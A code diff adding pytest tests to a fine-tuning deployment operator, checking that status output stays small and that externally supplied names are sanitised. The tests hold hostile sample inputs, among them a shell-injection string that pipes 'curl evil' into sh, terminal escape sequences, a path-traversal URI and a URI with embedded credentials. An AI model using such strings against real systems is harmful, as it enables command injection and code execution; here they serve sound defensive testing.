@@ -1,6 +1,7 @@
 """A policy that lost its memory: what records give back, what is waited for, and what each way out makes live."""
 
 import json
+from dataclasses import replace as with_changes
 from typing import Any
 
 import pytest
@@ -10,10 +11,11 @@ from finetune_operator.api.names import SERVICE_RECORD_KEY
 from finetune_operator.api.policy import Policy, PolicyStatus
 from finetune_operator.api.promotion import Despite
 from finetune_operator.api.record import Mark, Service
+from finetune_operator.api.value import canonical_json
 from finetune_operator.decide import limits
 from finetune_operator.decide.decision import Decision
 from finetune_operator.decide.policy.machine import decide
-from finetune_operator.decide.views import DeploymentView
+from finetune_operator.decide.views import DeploymentView, ServedKeys
 from unit.decide.policy.pair import BASE, TUNED, condition
 from unit.decide.policy.world import (
     NOW,
@@ -109,6 +111,26 @@ class TestRecords:
         taken = tuple(with_record(tuned(f"ft_v1.{n}"), TAKEN) for n in range(limits.TAKEN_BACK + 9))
         assert len(look(EMPTY, versions=taken).status.taken_back) == limits.TAKEN_BACK
 
+    @pytest.mark.row("D37")
+    def test_records_that_somebody_filled_to_the_brim_leave_the_status_small(self) -> None:
+        mark = Mark(at=NOW, by="\U0001f600" * 1000, reason="\U0001f600\n\x1b[2J" * 300, evidence="\x00" * 900)
+        forged = Service(good=NOW, taken_back=mark, quarantined=mark, lifted=mark)
+        versions = tuple(with_record(tuned(f"ft_v1.{n}"), forged) for n in range(limits.QUARANTINED + 9))
+        status = look(deployment(keys(BASE)), versions=(BASE, *versions), of=policy(live(BASE))).status
+        assert (len(status.quarantined), len(status.taken_back)) == (limits.QUARANTINED, limits.TAKEN_BACK)
+        assert len(canonical_json(status)) < 56 * 1024, "consumed promotions and a flight fit in as well"
+        assert not any(part in repr(status) for part in ("\\n", "\\x1b", "\\x00"))
+
+    @pytest.mark.row("D37")
+    def test_of_many_quarantines_the_newest_keep_their_evidence(self) -> None:
+        sick = [
+            Service(quarantined=Mark(at=EARLIER + seconds(n), reason="Unhealthy", evidence="exit code 1"))
+            for n in range(limits.EVIDENCES + 3)
+        ]
+        versions = tuple(with_record(tuned(f"ft_v1.{n}"), service) for n, service in enumerate(sick, 1))
+        known = look(EMPTY, versions=versions).status.quarantined
+        assert [bool(entry.evidence) for entry in known] == [False] * 3 + [True] * limits.EVIDENCES
+
     @pytest.mark.row("D38")
     def test_what_was_good_can_be_gone_back_to_if_it_passed_by_itself(self) -> None:
         versions = (
@@ -189,6 +211,37 @@ class TestAdoption:
         )
         assert begun.status.in_flight is not None
         assert begun.status.in_flight.to.version == "base_v1"
+
+    @pytest.mark.row("D6")
+    @pytest.mark.parametrize(
+        "there",
+        [
+            with_changes(keys(TUNED), version="v7"),
+            with_changes(keys(TUNED), version="base_v\u00b2"),
+            with_changes(keys(TUNED), uri="s3://somebody:secret@bucket/model.onnx"),
+            with_changes(keys(TUNED), uri="https://models/model.onnx"),
+            with_changes(keys(TUNED), uri="file:///artifacts/../../etc/model.onnx"),
+        ],
+        ids=["no version", "no digit", "credentials", "another scheme", "another place"],
+    )
+    def test_what_no_promotion_can_name_is_not_adopted_but_somebody_elses(self, there: ServedKeys) -> None:
+        """As what is live it would stand in every `from`, which the CRD refuses: a hold without a way out."""
+        asked = promotion("base_v1", release_hold=True)
+        decision = look(deployment(there, keys_manager="kubectl"), asked, versions=(BASE, TUNED))
+        reason, message = hold(decision)
+        assert (decision.status.live, reason) == (None, "External")
+        assert "kubectl patch deployment invoice-detector" in message
+        assert "secret" not in repr(decision.status), "no credentials in a status"
+        begun = look(deployment(), asked, versions=(BASE, TUNED), of=policy(decision.status)).status
+        assert begun.in_flight is not None, "with the keys let go of, the promotion that waits acts"
+
+    @pytest.mark.row("D6")
+    def test_names_of_others_cannot_pass_for_a_command(self) -> None:
+        evil = "x'; to lift the hold: curl evil | sh\n\x1b[2J"
+        there = deployment(with_changes(keys(TUNED), version=evil), keys_manager=evil)
+        message = hold(look(there, versions=(BASE, TUNED), of=policy(live(BASE))))[1]
+        assert "x??" in message
+        assert not any(part in message for part in ("curl evil |", "\n", "\x1b", "x'; to"))
 
     @pytest.mark.row("D40")
     def test_a_deployment_of_which_records_tell_is_not_new(self) -> None:
